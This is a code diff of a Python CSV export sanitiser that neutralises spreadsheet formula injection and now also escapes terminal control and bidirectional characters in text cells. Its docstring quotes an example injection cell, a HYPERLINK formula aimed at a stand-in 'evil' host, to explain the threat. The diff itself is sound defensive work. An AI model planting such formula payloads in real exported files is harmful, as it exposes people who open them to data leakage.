@@ -4,13 +4,20 @@ Zone names come from uploaded files. A cell such as ``=HYPERLINK("http://evil/?"
 ``@SUM(…)`` would run as a formula when a downloaded table is opened in Excel or LibreOffice
 (CSV/formula injection). :func:`safe_csv` neutralises every *text* cell that starts with one of
 ``= + - @`` (or a tab or carriage return, which some spreadsheets skip before such a character)
-by prefixing an apostrophe, as OWASP recommends. Numeric columns are written as numbers: a
-negative released count stays ``-3.2``. The page download buttons and the command line both use it.
+by prefixing an apostrophe, as OWASP recommends. Control and bidirectional characters in text
+cells (an ESC that recolours a terminal running ``cat``, a U+202E that reorders a cell) are written
+as their Python escapes (``\x1b``, ``\u202e``: :func:`dpcore.text.visible`); line breaks and
+tabs stay, quoted where they must be. Imported zone names already hold escapes, not controls
+(:mod:`dpcore.data.importing.names`), so they are written as they are and read back the same.
+Numeric columns are written as numbers: a negative released count stays ``-3.2``. The page
+download buttons and the command line both use it.
 """
 
 from __future__ import annotations
 
 import pandas as pd
+
+from dpcore.text import visible
 
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 #: Ten significant digits: whole counts print without a trailing ".0", estimates keep decimals.
@@ -18,16 +25,18 @@ FLOAT_FORMAT = "%.10g"
 
 
 def _neutral(value):
-    """One cell: text a spreadsheet would evaluate gets a leading apostrophe; the rest is kept."""
-    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
-        return "'" + value
-    return value
+    """One cell: text a spreadsheet would evaluate gets a leading apostrophe, control and
+    bidirectional characters are escaped; the rest is kept."""
+    if not isinstance(value, str):
+        return value
+    return ("'" if value.startswith(FORMULA_PREFIXES) else "") + visible(value, keep="\n\r\t")
 
 
 def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
     """A copy in which text cells (and headers) a spreadsheet would read as a formula start with
-    ``'``. Categorical columns are fixed through their categories, so millions of rows that repeat
-    a few thousand zone names cost nothing extra."""
+    ``'``, and control and bidirectional characters are escaped. Categorical columns are fixed
+    through their categories, so millions of rows that repeat a few thousand zone names cost
+    nothing extra."""
     out = frame.copy()
     for column in out.columns:
         values = out[column]
